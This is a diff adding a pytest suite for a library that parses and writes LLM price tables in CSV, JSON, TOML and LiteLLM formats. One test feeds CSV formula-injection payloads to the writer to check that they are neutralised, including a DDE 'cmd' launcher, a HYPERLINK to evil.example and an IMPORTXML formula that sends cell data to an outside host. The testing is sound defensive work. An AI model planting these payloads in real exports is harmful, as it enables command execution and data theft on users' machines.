@@ -1,0 +1,305 @@
+"""Readers and writers: TOML, CSV (spreadsheet-edited), JSON, LiteLLM's map, genai-prices.
+
+Expected prices are written by hand next to each fixture (with the arithmetic
+where a conversion happens), never produced by the reader under test.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import sys
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from distillcost.errors import NotAvailableError
+from distillcost.export import csv_safe
+from distillcost.price_formats import (
+    CSV_COLUMNS,
+    LITELLM_EFFECTIVE_FROM,
+    parse_path,
+    quote_cell,
+    records_csv_text,
+    unquote_cell,
+)
+from distillcost.prices import LongContextTier, ModelRecord, PriceEntry, load_price_file
+
+
+def write(tmp_path: Path, name: str, text: str | bytes) -> Path:
+    path = tmp_path / name
+    if isinstance(text, bytes):
+        path.write_bytes(text)
+    else:
+        path.write_text(text, encoding="utf-8")
+    return path
+
+
+# ---------------------------------------------------------------- CSV as a spreadsheet writes it
+
+
+def test_csv_from_a_spreadsheet(tmp_path):
+    # Excel habits: UTF-8 BOM, ';' separators (some locales), "$" prices, TRUE/FALSE,
+    # blank rows, stray spaces; two rows with one date = one entry with two tiers.
+    text = (
+        "\ufeffid;provider;effective_from;input;output;source;encoding;verified;"
+        "tier_above_prompt_tokens;tier_input;tier_output\n"
+        " m1 ;acme;2024-01-01;$1.50;6;sheet;o200k_base;TRUE;;;\n"
+        ";;;;;;;;;;\n"
+        "m1;acme;2024-06-01;1;4;sheet;o200k_base;FALSE;128000;2;8\n"
+        "m1;acme;2024-06-01;1;4;sheet;o200k_base;FALSE;200000;3;9\n"
+    )
+    (m,) = load_price_file(write(tmp_path, "s.csv", text))
+    assert m.id == "m1" and m.provider == "acme"
+    first, second = m.history
+    assert (first.input, first.output, first.verified) == (Decimal("1.5"), Decimal("6"), True)
+    assert second.verified is False
+    assert second.tiers == (
+        LongContextTier(128000, Decimal("2"), Decimal("8")),
+        LongContextTier(200000, Decimal("3"), Decimal("9")),
+    )
+
+
+def test_csv_model_columns_must_agree_across_rows(tmp_path):
+    text = (
+        "id,provider,effective_from,input,output,source,encoding\n"
+        "m,acme,2024-01-01,1,2,s,o200k_base\n"
+        "m,acme,2024-06-01,1,2,s,cl100k_base\n"
+    )
+    result = parse_path(write(tmp_path, "x.csv", text))
+    assert [str(p) for p in result.problems] == [
+        f"{tmp_path / 'x.csv'}:3: model 'm': field 'encoding': differs from line 2 "
+        "('o200k_base') for the same model; model-level columns must repeat the same value "
+        "on every row"
+    ]
+
+
+# ---------------------------------------------------------------- CSV writer <-> reader
+
+
+@given(st.text(max_size=12))
+def test_quote_then_csv_safe_then_unquote_is_the_identity(text):
+    assert unquote_cell(csv_safe(quote_cell(text))) == text
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example","click")',
+    "-2+3",
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "<script>alert(1)</script>",
+    "'=already-quoted",
+    "plain-id",
+]
+
+
+def test_hostile_ids_are_neutralised_in_csv_and_read_back_exactly(tmp_path):
+    day = date(2024, 1, 1)
+    records = [
+        ModelRecord(
+            id=name,
+            provider="evil",
+            aliases=("=alias-too",) if i == 0 else (),
+            history=(
+                PriceEntry(
+                    effective_from=day,
+                    input=Decimal(1),
+                    output=Decimal(2),
+                    source='=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+                    notes="<b>bold</b>",
+                ),
+            ),
+        )
+        for i, name in enumerate(HOSTILE)
+    ]
+    text = records_csv_text([(r, r.history[0]) for r in records])
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    # no cell a spreadsheet would evaluate
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["id"] == "'" + HOSTILE[0]
+    assert rows[4]["id"] == "<script>alert(1)</script>"  # CSV is not HTML: kept verbatim
+    assert rows[5]["id"] == "''=already-quoted"
+    again = load_price_file(write(tmp_path, "h.csv", text))
+    assert [m.id for m in again] == HOSTILE
+    assert again[0].aliases == ("=alias-too",)
+    assert again[0].history[0].source == records[0].history[0].source
+    assert again[0].history[0].notes == "<b>bold</b>"
+
+
+def test_csv_writer_columns_are_the_schema_columns():
+    e = PriceEntry(effective_from=date(2024, 1, 1), input=Decimal("0.10"), output=Decimal(20))
+    r = ModelRecord(id="m", provider="p", history=(e,))
+    header, row = records_csv_text([(r, e)]).splitlines()
+    assert header.split(",") == list(CSV_COLUMNS)
+    values = dict(zip(CSV_COLUMNS, row.split(","), strict=True))
+    assert values["input"] == "0.1" and values["output"] == "20"  # exact, no exponent
+    assert values["effective_from"] == "2024-01-01"
+
+
+# ---------------------------------------------------------------- JSON
+
+
+def test_json_schema_file(tmp_path):
+    text = (
+        '{"meta": {"provider": "acme", "unit": "USD per 1K tokens"},\n'
+        ' "models": [{"id": "j", "encoding": "cl100k_base", "released": "2023-03-01",\n'
+        '   "prices": [{"effective_from": "2023-03-01", "input": 0.002, "output": "0.002",\n'
+        '               "source": "post"}]}]}\n'
+    )
+    (m,) = load_price_file(write(tmp_path, "a.json", text))
+    assert m.released == date(2023, 3, 1)
+    assert m.history[0].input == Decimal("2")  # 0.002 per 1K x 1000, parsed without float
+
+
+def test_json_list_of_rows_is_the_csv_form(tmp_path):
+    text = (
+        '[{"id": "r", "provider": "p", "effective_from": "2024-01-01", "input": 1,'
+        ' "output": 2.5, "source": "s", "encoding": "o200k_base", "status": "available"}]'
+    )
+    (m,) = load_price_file(write(tmp_path, "rows.json", text))
+    assert m.history[0].output == Decimal("2.5")
+
+
+def test_json_duplicate_keys_are_reported_with_their_line(tmp_path):
+    text = '{"meta": {"provider": "a"},\n "meta": {"provider": "b"}, "models": []}\n'
+    result = parse_path(write(tmp_path, "d.json", text))
+    assert [str(p) for p in result.problems] == [
+        f"{tmp_path / 'd.json'}:2: field 'meta': duplicate key 'meta'"
+    ]
+
+
+# ---------------------------------------------------------------- LiteLLM's map
+
+LITELLM = """\
+{
+  "sample_spec": {"input_cost_per_token": 0.0, "mode": "chat"},
+  "acme-chat": {
+    "litellm_provider": "acme",
+    "mode": "chat",
+    "input_cost_per_token": 1.5e-07,
+    "output_cost_per_token": 6e-07,
+    "cache_read_input_token_cost": 7.5e-08,
+    "cache_creation_input_token_cost": 1.875e-07,
+    "input_cost_per_token_batches": 7.5e-08,
+    "output_cost_per_token_batches": 3e-07,
+    "input_cost_per_token_above_200k_tokens": 3e-07,
+    "output_cost_per_token_above_200k_tokens": 1.2e-06,
+    "cache_read_input_token_cost_above_200k_tokens": 1.5e-08,
+    "input_cost_per_token_above_128k_tokens": 2e-07,
+    "output_cost_per_token_above_128k_tokens": 8e-07,
+    "max_input_tokens": 1000000,
+    "max_output_tokens": 8192,
+    "deprecation_date": "2027-01-31",
+    "supports_vision": true
+  },
+  "text-davinci-003": {
+    "litellm_provider": "text-completion-openai",
+    "mode": "completion",
+    "input_cost_per_token": 0.00002,
+    "output_cost_per_token": 0.00002
+  },
+  "acme-embed": {"litellm_provider": "acme", "mode": "embedding",
+                 "input_cost_per_token": 1e-07, "output_cost_per_token": 0},
+  "acme-image": {"litellm_provider": "acme", "mode": "image_generation",
+                 "output_cost_per_image": 0.04},
+  "acme-unpriced": {"litellm_provider": "acme", "mode": "chat", "max_input_tokens": 0}
+}
+"""
+
+
+def test_litellm_map_is_detected_and_converted_exactly(tmp_path):
+    path = write(tmp_path, "model_prices_and_context_window.json", LITELLM)
+    result = parse_path(path)
+    assert result.problems == []
+    by_id = {m.id: m for m in result.records}
+    assert set(by_id) == {"acme-chat", "text-davinci-003"}
+    chat = by_id["acme-chat"]
+    e = chat.history[0]
+    # per token x 1,000,000: 1.5e-07 -> 0.15, 6e-07 -> 0.6, 7.5e-08 -> 0.075 ...
+    assert (e.input, e.output) == (Decimal("0.15"), Decimal("0.6"))
+    assert (e.cached_input, e.cache_write) == (Decimal("0.075"), Decimal("0.1875"))
+    assert (e.batch_input, e.batch_output) == (Decimal("0.075"), Decimal("0.3"))
+    assert e.tiers == (
+        LongContextTier(128000, Decimal("0.2"), Decimal("0.8")),
+        LongContextTier(200000, Decimal("0.3"), Decimal("1.2"), cached_input=Decimal("0.015")),
+    )
+    assert e.effective_from == LITELLM_EFFECTIVE_FROM == date(1970, 1, 1)
+    assert e.verified is False and e.source == str(path)
+    assert (chat.context_window, chat.max_output_tokens) == (1000000, 8192)
+    assert chat.retired == date(2027, 1, 31)
+    assert chat.provider == "acme" and chat.tokenizer_approximate is True
+    davinci = by_id["text-davinci-003"].history[0]
+    assert davinci.input == Decimal("20")  # 0.00002 x 1e6: the right price, not LiteLLM-1.14's 2
+    assert by_id["text-davinci-003"].encoding == "p50k_base"
+
+
+def test_litellm_skipped_entries_are_counted_in_warnings(tmp_path):
+    result = parse_path(write(tmp_path, "m.json", LITELLM))
+    assert result.warnings == [
+        f"{tmp_path / 'm.json'}: skipped 2 LiteLLM entries that are not chat models "
+        "(embedding: 1, image_generation: 1)",
+        f"{tmp_path / 'm.json'}: skipped 1 LiteLLM chat entry without input and output prices",
+    ]
+
+
+def test_litellm_bad_price_is_a_located_problem(tmp_path):
+    text = '{\n  "m": {\n    "litellm_provider": "x",\n    "input_cost_per_token": -1e-06,\n'
+    text += '    "output_cost_per_token": "lots"\n  }\n}\n'
+    result = parse_path(write(tmp_path, "bad.json", text))
+    assert [str(p) for p in result.problems] == [
+        f"{tmp_path / 'bad.json'}:4: model 'm': field 'input_cost_per_token': "
+        "negative price -0.000001; prices must be >= 0",
+        f"{tmp_path / 'bad.json'}:5: model 'm': field 'output_cost_per_token': "
+        "not a number: 'lots'",
+    ]
+
+
+# ---------------------------------------------------------------- genai-prices adapter
+
+
+def test_genai_adapter_fails_clearly_when_the_package_is_absent(monkeypatch):
+    monkeypatch.setitem(sys.modules, "genai_prices", None)  # makes the import fail
+    with pytest.raises(NotAvailableError) as info:
+        load_price_file("genai-prices")
+    assert str(info.value) == (
+        "the genai-prices package is not installed; install it with "
+        "pip install 'distillcost[genai]' (or pip install genai-prices)"
+    )
+
+
+def test_genai_adapter_converts_dated_prices_when_installed():
+    pytest.importorskip("genai_prices", reason="optional extra 'genai' not installed")
+    records = {m.id: m for m in load_price_file("genai-prices:openai")}
+    o3 = records["o3"]
+    # genai-prices dates o3's price cut 2025-06-10 (10/40 -> 2/8, per the reference notes)
+    before, after = o3.price_on(date(2025, 6, 9)), o3.price_on(date(2025, 6, 10))
+    assert (before.input, before.output) == (Decimal("10"), Decimal("40"))
+    assert (after.input, after.output) == (Decimal("2"), Decimal("8"))
+    assert "o3-2025-04-16" in o3.aliases  # exact names only
+    assert all(not e.verified for e in o3.history)
+
+
+# ---------------------------------------------------------------- file-level failures
+
+
+def test_non_utf8_and_binary_files(tmp_path):
+    latin = parse_path(write(tmp_path, "l.csv", b"id,provider\nm,caf\xe9\n"))
+    assert [str(p) for p in latin.problems] == [
+        f"{tmp_path / 'l.csv'}:2: not UTF-8 text (byte 0xe9 at offset 17)"  # 12 + len("m,caf")
+    ]
+    binary = parse_path(write(tmp_path, "b.toml", b"\x00\x01\x02"))
+    assert [str(p) for p in binary.problems] == [
+        f"{tmp_path / 'b.toml'}: binary file, not a price table"
+    ]
+
+
+def test_unknown_extension(tmp_path):
+    result = parse_path(write(tmp_path, "prices.xlsx", "x"))
+    assert [str(p) for p in result.problems] == [
+        f"{tmp_path / 'prices.xlsx'}: unknown price file type '.xlsx'; use .toml, .csv or .json"
+    ]
